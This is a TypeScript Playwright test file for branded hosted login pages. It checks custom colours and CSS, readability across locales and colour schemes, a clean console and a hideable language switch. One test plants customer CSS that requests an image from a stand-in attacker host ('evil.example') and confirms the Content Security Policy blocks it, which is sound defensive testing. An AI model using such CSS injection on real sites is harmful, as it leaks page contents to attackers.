import type { Browser, BrowserContextOptions } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { makeApp } from '../harness/fixtures.ts'
import { expectReadable } from '../harness/readable.ts'
import { type Sesame, startSesame } from '../harness/sesame.ts'
import { launchChromium, newVisitor } from '../harness/visitor.ts'

/** Hosted pages in a customer's colours: theirs to see, and readable whatever was picked. */

let sesame: Sesame
let browser: Browser
beforeAll(async () => {
  ;[sesame, browser] = await Promise.all([startSesame(), launchChromium()])
})
afterAll(async () => {
  await browser?.close()
  await sesame?.close()
})

const brands = {
  violet: { primaryColor: '#7a1fa2', customBackground: '#2b1240' },
  'a yellow that nobody could read': { primaryColor: '#ffee00', customBackground: '#fffde0' },
  'own rules': {
    primaryColor: '#0052cc',
    customCSSEnabled: true,
    customCSS: '.panel { border-top: 6px solid var(--accent) }\n.panel-head > h1 { text-transform: uppercase }',
  },
}

const pageOf = async (brandingConfig: object): Promise<string> => {
  const { appId } = await makeApp(sesame.core, sesame.pool, {
    appName: '星海书店 Bookshop',
    appType: 'web',
    appDescription: '会员中心 · Members',
    appLogo: `${sesame.url}/_sesame/login/favicon.svg`,
    brandingConfig,
  })
  return `${sesame.url}/${appId}/login`
}

async function open(url: string, options: BrowserContextOptions) {
  const visitor = await newVisitor(browser, options)
  await visitor.page.goto(url)
  await visitor.page.locator('#username').waitFor()
  return visitor
}

describe.each(Object.entries(brands))('%s', (_name, branding) => {
  test.each(['zh-CN', 'en-US'] as const)('is accessible in %s, light and dark, wide and narrow', async (locale) => {
    const url = await pageOf(branding)
    for (const colorScheme of ['light', 'dark'] as const) {
      const { page, context } = await open(url, { locale, colorScheme, bypassCSP: true })
      await expectReadable(page)
      await context.close()
    }
  })

  test('keeps the policy: nothing in the console', async () => {
    const { complaints, context } = await open(await pageOf(branding), {})
    expect(complaints).toEqual([])
    await context.close()
  })
})

test('the picked colour and the own rules are seen', async () => {
  const { page } = await open(await pageOf(brands['own rules']), {})
  const button = page.getByRole('button', { name: 'Sign in', exact: true })
  expect(await button.evaluate((element) => getComputedStyle(element).backgroundColor)).toBe('rgb(0, 82, 204)')
  expect(await page.locator('.panel').evaluate((element) => getComputedStyle(element).borderTopWidth)).toBe('6px')
})

test('rules of a customer cannot tell anybody what the page holds', async () => {
  const url = await pageOf({
    customCSSEnabled: true,
    customCSS: 'input[name^=user]::before, body { background: url("//evil.example/told") }',
  })
  const visitor = await newVisitor(browser)
  const asked: string[] = []
  await visitor.context.route(/evil\.example/, (route) => {
    asked.push(route.request().url())
    return route.abort()
  })
  await visitor.page.goto(url)
  await visitor.page.locator('#username').waitFor()
  await visitor.page.waitForFunction(() => document.readyState === 'complete')
  expect(visitor.complaints.join('\n')).toContain('Content Security Policy')
  expect(asked).toEqual([])
})

test('the language switch can be taken away', async () => {
  const { page } = await open(await pageOf({ showChangeLanguageButton: false, defaultLanguage: 'zh-CN' }), {})
  expect(await page.getAttribute('html', 'lang')).toBe('zh-CN')
  expect(await page.getByRole('combobox').count()).toBe(0)
})
